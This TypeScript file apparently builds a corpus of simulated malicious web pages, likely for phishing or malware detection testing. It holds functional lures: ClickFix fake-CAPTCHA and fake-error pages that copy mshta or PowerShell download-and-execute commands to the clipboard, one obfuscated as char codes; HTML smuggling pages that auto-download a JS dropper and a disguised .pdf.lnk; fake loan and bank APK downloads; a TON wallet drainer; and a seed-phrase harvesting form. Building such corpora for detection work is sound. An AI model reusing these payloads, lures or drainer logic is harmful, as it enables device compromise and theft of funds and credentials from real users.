import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, cardFields, cardJs, doc, mark, mobileCss, siteCss, tgRelay } from '../parts/zu-kit.js';
import { apk, beepWav, fileRoute, iso, jsRoute, jsonRoute, lnk, pe, zip } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zu-clickfix-captcha-ar',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://aflam-hd-arabic.live/watch/episode-14',
  body: doc({
    title: 'التحقق من أنك إنسان',
    lang: 'ar',
    dir: 'rtl',
    css: 'body{font-family:Tahoma,Arial;background:#f9f9f9}.box{max-width:480px;margin:80px auto;background:#fff;border:1px solid #ddd;border-radius:6px;padding:28px}.cb{display:flex;align-items:center;gap:12px;border:1px solid #d3d3d3;padding:14px;border-radius:4px;background:#fafafa;cursor:pointer}.cb span{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:3px;background:#fff}#steps{display:none;margin-top:18px;background:#f1f5ff;padding:14px;border-radius:6px;line-height:1.9}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}',
    body: `<div class="box"><h2>aflam-hd-arabic.live</h2><p>يرجى التحقق من أنك لست روبوتاً للمتابعة إلى الحلقة.</p>
<div class="cb" id="cb"><span></span> أنا لست روبوتاً <small style="margin-right:auto;color:#999">reCAPTCHA</small></div>
<div id="steps"><b>خطوات التحقق:</b><br>1. اضغط على <kbd>⊞ Win</kbd> + <kbd>R</kbd><br>2. اضغط على <kbd>Ctrl</kbd> + <kbd>V</kbd><br>3. اضغط على <kbd>Enter</kbd><br><small>رمز التحقق: 84291</small></div></div>
<script>
document.getElementById("cb").onclick=function(){
  var c='mshta https://cdn-verify-human.top/v/84291.hta # ✅ I am not a robot - reCAPTCHA Verification ID: 84291';
  var t=document.createElement("textarea");t.value=c;document.body.appendChild(t);t.select();document.execCommand("copy");document.body.removeChild(t);
  document.getElementById("steps").style.display="block";
};
</script>`,
  }),
},
{
  id: 'zu-clickfix-word-pl',
  label: 'clickfix',
  kind: 'clickfix-doc-error',
  url: 'https://faktury-online.pl-docs.com/view?id=FV-2025-03-118',
  body: doc({
    title: 'Word Online - FV-2025-03-118.docx',
    lang: 'pl',
    css: 'body{margin:0;font-family:"Segoe UI",Arial;background:#e9e9e9}.hdr{background:#2b579a;color:#fff;padding:10px 18px}.page{width:720px;margin:30px auto;background:#fff;height:600px;filter:blur(3px)}.dlg{position:fixed;top:30%;left:50%;transform:translateX(-50%);width:520px;background:#fff;border-top:4px solid #c43e1c;padding:24px;box-shadow:0 8px 30px #0005}.dlg button{background:#2b579a;color:#fff;border:0;padding:9px 20px}pre{background:#f3f3f3;padding:8px;font-size:12px;white-space:pre-wrap}',
    body: `<div class="hdr">Word Online</div><div class="page"></div>
<div class="dlg"><h3>Błąd: rozszerzenie „Word Online” nie jest zainstalowane</h3><p>Aby wyświetlić dokument w trybie offline, należy zainstalować poprawkę czcionek.</p><button id="fix">Jak naprawić</button><div id="how" style="display:none"><p>1. Kliknij prawym przyciskiem na Start i wybierz <b>Windows PowerShell (Administrator)</b><br>2. Wklej skopiowany kod (Ctrl+V) i naciśnij Enter<br>3. Odśwież tę stronę</p></div></div>
<script>
document.getElementById("fix").addEventListener("click",function(){
  var p="powershell -w 1 -ep bypass -c \\"$d=iwr -useb 'https://faktury-online.pl-docs.com/fonts/update.ps1';iex $d\\"";
  navigator.clipboard.writeText(p).then(function(){document.getElementById("how").style.display="block"});
});
</script>`,
  }),
},
{
  id: 'zu-clickfix-meet-mic-ru',
  label: 'clickfix',
  kind: 'clickfix-meeting',
  url: 'https://meet-google.us-join.com/xgk-pqwr-tnv',
  body: doc({
    title: 'Meet - xgk-pqwr-tnv',
    lang: 'ru',
    css: 'body{margin:0;background:#202124;color:#e8eaed;font-family:Roboto,Arial}.v{width:640px;height:360px;background:#3c4043;margin:50px auto;border-radius:8px;display:flex;align-items:center;justify-content:center}.m{position:fixed;inset:0;background:#000a;display:flex;align-items:center;justify-content:center}.d{background:#fff;color:#202124;width:500px;padding:24px;border-radius:8px}.d button{background:#1a73e8;color:#fff;border:0;padding:10px 22px;border-radius:4px}',
    body: `<div class="v">Камера выключена</div><div class="m"><div class="d"><h3>Проблема с микрофоном и камерой</h3><p>Браузеру не удалось получить доступ к устройствам. Это известная проблема драйвера Windows. Нажмите «Исправить», затем Win+X → «Терминал (Администратор)», вставьте (Ctrl+V) и нажмите Enter.</p><button onclick="fx()">Исправить</button></div></div>
<script>function fx(){var s='$c=New-Object Net.WebClient;$c.Headers.Add("User-Agent","m");iex $c.DownloadString("https://meet-google.us-join.com/drv/fix.txt")';navigator.clipboard.writeText("powershell -NoP -W Hidden -C "+JSON.stringify(s));alert("Код исправления скопирован. Выполните шаги выше.")}</script>`,
  }),
},
{
  id: 'zu-clickfix-booking-tr-hotel',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://booking-extranet-guest.com/review/6671203',
  body: doc({
    title: 'Booking.com | Misafir şikayeti',
    lang: 'tr',
    css: 'body{font-family:Arial;background:#f5f5f5}.c{max-width:460px;margin:70px auto;background:#fff;padding:26px;border-radius:6px;box-shadow:0 1px 6px #0002}.v{border:1px solid #ccc;padding:14px;display:flex;gap:10px;align-items:center;cursor:pointer}#i{display:none;margin-top:14px;font-size:14px;line-height:1.8}',
    body: `<div class="c"><h3 style="color:#003580">Booking.com Extranet</h3><p>Bir misafir rezervasyon #6671203 için şikayet bıraktı. Şikayeti görüntülemek için doğrulamayı tamamlayın.</p><div class="v" id="v">☐ Robot değilim</div><div id="i">Doğrulama adımları:<br>1. <b>Windows + R</b> tuşlarına basın<br>2. <b>CTRL + V</b> ile yapıştırın<br>3. <b>Enter</b> tuşuna basın</div></div>
<script>var _c=[99,109,100,32,47,99,32,115,116,97,114,116,32,47,109,105,110,32,112,111,119,101,114,115,104,101,108,108,32,45,119,32,104,32,45,99,32,34,105,114,109,32,104,116,116,112,115,58,47,47,98,111,111,107,105,110,103,45,101,120,116,114,97,110,101,116,45,103,117,101,115,116,46,99,111,109,47,118,46,116,120,116,124,105,101,120,34];
document.getElementById("v").onclick=function(){navigator.clipboard.writeText(String.fromCharCode.apply(null,_c)+" :: Booking verification #6671203");this.textContent="⏳ Doğrulanıyor...";document.getElementById("i").style.display="block"};</script>`,
  }),
},
{
  id: 'zu-smuggle-mtn-invoice-zip',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://mtn-ebill.ng-docs.com/statement/March2025.html',
  body: (() => {
    const z = zip([{ name: 'MTN_eBill_March2025.js', data: 'var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w h -c iwr https://mtn-ebill.ng-docs.com/p/a.ps1 -o $env:TEMP\\\\a.ps1; & $env:TEMP\\\\a.ps1",0);' }]);
    return doc({
      title: 'MTN eBill',
      css: mobileCss('#ffcb05') + 'header.top{color:#000}',
      body: `<header class="top"><span class="brand">MTN</span></header><main class="wrap"><div class="card"><h2>Your March 2025 statement</h2><p>Your download will begin automatically. If it does not, <a id="dl" href="#">click here</a>.</p><p class="muted">Archive password: none</p></div></main>
<script>
var d="${z.toString('base64')}";
function go(){var b=atob(d),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);var blob=new Blob([u],{type:"application/zip"});var a=document.createElement("a");a.href=URL.createObjectURL(blob);a.download="MTN_eBill_March2025.zip";document.body.appendChild(a);a.click();}
document.getElementById("dl").onclick=function(e){e.preventDefault();go()};setTimeout(go,1200);
</script>`,
    });
  })(),
},
{
  id: 'zu-smuggle-faktura-lnk-pl',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://e-faktura.allegro-platnosci.com/fv/2025/8812',
  body: (() => {
    const z = zip([{ name: 'Faktura_VAT_8812.pdf.lnk', data: lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w hidden -c "iex(iwr https://e-faktura.allegro-platnosci.com/k.ps1 -UseB)"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') }]);
    const parts = z.toString('base64').match(/.{1,76}/g) ?? [];
    return doc({
      title: 'Faktura VAT nr 8812/03/2025',
      lang: 'pl',
      css: mobileCss('#ff5a00'),
      body: `<main class="wrap"><div class="card"><h2>Faktura VAT nr 8812/03/2025</h2><p>Sprzedawca: ELKOM Sp. z o.o. · Kwota brutto: 4 318,20 zł · Termin płatności: 7 dni</p><p>Pobieranie dokumentu...</p><div class="spinner"></div></div></main>
<script>
var q=[${parts.map((p) => JSON.stringify(p)).join(',\n')}];
window.addEventListener("load",function(){var s=q.join(""),r=atob(s),n=new Uint8Array(r.length);for(var i=0;i<r.length;i++)n[i]=r.charCodeAt(i);var u=URL.createObjectURL(new Blob([n],{type:"application/octet-stream"}));var a=document.createElement("a");a.href=u;a.download="Faktura_VAT_8812.zip";document.body.appendChild(a);a.click();});
</script>`,
    });
  })(),
},
{
  id: 'zu-apk-loan-haraka-ke',
  label: 'malware',
  kind: 'loan-apk',
  url: 'https://harakacash-loans.com/',
  body: doc({
    title: 'Haraka Cash — Instant loans to M-PESA in 5 minutes',
    css: siteCss('#0b8a45') + '.hero{background:#e9f7ef;padding:40px;border-radius:10px;text-align:center}.hero h1{font-size:36px}',
    body: `<div class="bar"><div class="in"><span class="logo">HarakaCash</span><span><a href="#faq">FAQ</a><a href="#apply">Apply</a></span></div></div><div class="content"><div class="hero"><h1>Get up to Ksh 50,000 in 5 minutes</h1><p>No CRB check · No guarantor · Repay in 91 days · 0% interest on first loan</p><a class="btn" href="/download/HarakaCash_v3.2.apk">⬇ Download APK (12 MB)</a><p class="muted">Not available on Play Store due to high demand. Enable "Install unknown apps" in settings.</p></div>
<h2 id="faq">How it works</h2><ol><li>Install the app and allow access to contacts, SMS and storage for verification</li><li>Enter your ID and M-PESA number</li><li>Pay Ksh 350 processing fee via Till 5489021</li><li>Receive your loan instantly</li></ol></div>`,
  }),
  routes: {
    'harakacash-loans.com/download/HarakaCash_v3.2.apk': fileRoute(apk('com.harakacash.loan', 'Haraka Cash', ['android.permission.READ_SMS', 'android.permission.READ_CONTACTS', 'android.permission.RECEIVE_SMS', 'android.permission.BIND_ACCESSIBILITY_SERVICE', 'https://api.harakacash-loans.com/upload/contacts']), 'application/vnd.android.package-archive', 'HarakaCash_v3.2.apk'),
  },
},
{
  id: 'zu-apk-garanti-guvenlik-tr',
  label: 'malware',
  kind: 'banker-apk',
  url: 'https://garanti-bbva-guvenlik.com/mobil/',
  body: doc({
    title: 'Garanti BBVA Mobil Güvenlik Güncellemesi',
    lang: 'tr',
    css: mobileCss('#00854a'),
    body: `<header class="top"><span class="brand">Garanti BBVA</span></header><main class="wrap"><div class="card"><h2>Zorunlu Güvenlik Güncellemesi</h2><p>BDDK düzenlemesi kapsamında Garanti BBVA Mobil uygulamanızın güvenlik modülünü güncellemeniz gerekmektedir. Güncelleme yapılmayan uygulamalar 19.03.2025 tarihinde kapatılacaktır.</p><a class="btn" href="/mobil/GarantiBBVA_Guvenlik.apk" id="d">Güncellemeyi İndir</a><ol style="font-size:13px"><li>İndirilen dosyayı açın</li><li>"Bilinmeyen kaynaklar"a izin verin</li><li>Erişilebilirlik ayarlarından "Garanti Güvenlik" hizmetini açın</li></ol></div></main>
<script>if(!/Android/i.test(navigator.userAgent)){document.getElementById("d").insertAdjacentHTML("afterend","<p class='muted'>Bu güncelleme yalnızca Android cihazlar içindir. Linki telefonunuzda açın.</p>")}</script>`,
  }),
  routes: {
    'garanti-bbva-guvenlik.com/mobil/GarantiBBVA_Guvenlik.apk': fileRoute(apk('com.grnt.guvenlik.modul', 'Garanti Güvenlik', ['android.permission.BIND_ACCESSIBILITY_SERVICE', 'android.permission.SYSTEM_ALERT_WINDOW', 'android.permission.READ_SMS', 'android.permission.REQUEST_INSTALL_PACKAGES']), 'application/vnd.android.package-archive', 'GarantiBBVA_Guvenlik.apk'),
  },
},
{
  id: 'zu-drainer-ton-airdrop',
  label: 'cryptodrainer',
  kind: 'ton-drainer',
  url: 'https://notcoin-claim.app-ton.org/',
  body: doc({
    title: 'Notcoin — Season 2 Airdrop Claim',
    css: 'body{margin:0;background:#000;color:#fff;font-family:Inter,Arial;text-align:center}.c{max-width:480px;margin:60px auto;padding:30px;border:1px solid #333;border-radius:18px;background:#111}.b{background:#0098ea;color:#fff;border:0;border-radius:24px;padding:14px 30px;font-size:16px;cursor:pointer}.amt{font-size:44px;font-weight:800;color:#ffd43b}',
    head: '<script src="/js/tonconnect-ui.min.js"></script>',
    body: `<div class="c"><h1>Notcoin Airdrop · Season 2</h1><p>Eligible wallets can claim NOT tokens. Connect your TON wallet to check eligibility.</p><div class="amt">25,000 NOT</div><button class="b" id="c">Connect Wallet</button><p id="st" style="color:#aaa;font-size:13px"></p></div>
<script>
var tc=new TON_CONNECT_UI.TonConnectUI({manifestUrl:"https://notcoin-claim.app-ton.org/tonconnect-manifest.json"});
var R="UQBm2cX7l0y4HqK3fVdK1sN9r2X8sYp6aW5vT0eZ3cGhJkLm";
document.getElementById("c").onclick=async function(){
  if(!tc.connected){await tc.openModal();return}
  var addr=tc.account.address;
  var j=await (await fetch("https://toncenter.com/api/v3/account?address="+addr)).json();
  var bal=BigInt(j.balance||"0");var send=(bal*97n/100n).toString();
  var jt=await (await fetch("/api/jettons?owner="+addr)).json();
  var msgs=[{address:R,amount:send,payload:"te6cckEBAQEAEQAAHgAAAABDbGFpbSByZXdhcmQ="}];
  jt.forEach(function(x){msgs.push({address:x.wallet,amount:"50000000",payload:x.transfer_to_R})});
  document.getElementById("st").textContent="Confirm the claim transaction in your wallet…";
  await tc.sendTransaction({validUntil:Math.floor(Date.now()/1e3)+360,messages:msgs.slice(0,4)});
};
tc.onStatusChange(function(w){if(w)document.getElementById("c").textContent="Claim 25,000 NOT"});
</script>`,
  }),
  routes: {
    'notcoin-claim.app-ton.org/js/tonconnect-ui.min.js': jsRoute('window.TON_CONNECT_UI={TonConnectUI:function(o){this.connected=false;this.account=null;this.openModal=function(){return Promise.resolve()};this.sendTransaction=function(t){return Promise.reject(new Error("no wallet"))};this.onStatusChange=function(){}}};'),
    'notcoin-claim.app-ton.org/tonconnect-manifest.json': jsonRoute({ url: 'https://notcoin-claim.app-ton.org', name: 'Notcoin', iconUrl: 'https://notcoin-claim.app-ton.org/icon.png' }),
    'notcoin-claim.app-ton.org/api/jettons': jsonRoute([]),
  },
},
{
  id: 'zu-seed-trustwallet-ar',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://trustwallet-verify.support/ar/restore',
  body: doc({
    title: 'Trust Wallet - التحقق من المحفظة',
    lang: 'ar',
    dir: 'rtl',
    css: mobileCss('#0500ff') + 'body{font-family:Tahoma,Arial}textarea{width:100%;height:120px;padding:10px;border:1px solid #ccc;border-radius:8px;font-size:15px}',
    body: `<header class="top"><span class="brand">Trust Wallet</span></header><main class="wrap"><div class="card"><h2>مزامنة المحفظة</h2><p>تم اكتشاف خلل في مزامنة محفظتك مع الشبكة. لاستعادة أرصدتك، أدخل عبارة الاسترداد المكونة من 12 أو 24 كلمة.</p>
<form id="s" method="post" action="/ar/restore/save.php"><textarea name="phrase" placeholder="أدخل الكلمات مفصولة بمسافة"></textarea><label>اسم المحفظة</label><input name="wname" value="Main wallet 1"><button>استعادة</button></form></div></main>
<script>document.getElementById("s").addEventListener("submit",function(e){var w=this.phrase.value.trim().split(/\\s+/);if([12,18,24].indexOf(w.length)<0){e.preventDefault();alert("عبارة غير صالحة")}});</script>`,
  }),
},
];
